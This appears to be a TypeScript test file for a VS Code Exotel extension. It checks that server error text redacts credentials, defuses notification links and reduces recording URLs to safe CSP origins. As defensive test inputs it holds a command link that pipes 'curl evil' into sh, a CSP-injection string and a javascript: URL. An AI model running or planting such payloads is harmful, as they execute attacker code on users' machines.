// What a hostile or careless server puts in an error must not carry our credentials or live links to the user.
import * as assert from 'assert';
import { cspMediaOrigin, inertNotificationText } from '../../../src/common/untrustedText';
import { Loopback, Reply, startLoopback } from '../../helpers/loopback';
import { API_KEY, CANARY_TOKEN, makeClient, rejection } from './clientHarness';

const SID = 'b'.repeat(32);
/** VS Code's own pattern for links in notification text (workbench: notifications' message parsing). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

describe('secrets and links in error text', () => {
  let server: Loopback;
  let reply: Reply;
  before(async () => {
    server = await startLoopback(() => reply);
  });
  after(() => server.close());

  it('a 403 that echoes the key and token: neither the message nor exotelMessage carries them', async () => {
    reply = { status: 403, body: JSON.stringify({ RestException: { Status: 403, Message: `Key ${API_KEY} / token ${CANARY_TOKEN} is not allowed` } }) };
    const err = (await rejection(() => makeClient(server.baseUrl).client.listCalls())) as Error & { exotelMessage?: string };
    for (const text of [err.message, err.exotelMessage ?? '', err.stack ?? '']) {
      assert.ok(!text.includes(CANARY_TOKEN) && !text.includes(API_KEY), text);
    }
    assert.match(err.exotelMessage ?? '', /is not allowed/);
  });

  it('a long message cut short for display leaves no part of the token behind', async () => {
    reply = { status: 400, body: JSON.stringify({ RestException: { Status: 400, Message: `${'x'.repeat(290)}${CANARY_TOKEN}` } }) };
    const err = await rejection(() => makeClient(server.baseUrl).client.getCall(SID));
    assert.ok(!err.message.includes(CANARY_TOKEN.slice(0, 6)), err.message.slice(-80));
  });

  it('no text becomes a notification link once made inert; other text is unchanged', () => {
    const hostile =
      'Fix it: [Fix the number](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D) or [docs](https://evil.example)';
    assert.ok(hostile.match(NOTIFICATION_LINK), 'the pattern finds the links before');
    assert.strictEqual(inertNotificationText(hostile).match(NOTIFICATION_LINK), null);
    assert.strictEqual(inertNotificationText('Call ended: busy (+91 98765 43210) [sandbox]'), 'Call ended: busy (+91 98765 43210) [sandbox]');
  });

  it('a recording URL enters a webview CSP only as a plain origin', () => {
    assert.strictEqual(cspMediaOrigin('https://recordings.exotel.com/a/b.mp3?sig=1'), 'https://recordings.exotel.com');
    assert.strictEqual(cspMediaOrigin('http://127.0.0.1:4321/sandbox/recordings/x.mp3'), 'http://127.0.0.1:4321');
    assert.strictEqual(cspMediaOrigin('https://x";script-src-elem;a="b.example/rec.mp3'), undefined);
    assert.strictEqual(cspMediaOrigin('javascript:alert(1)'), undefined);
    assert.strictEqual(cspMediaOrigin('not a url'), undefined);
  });
});
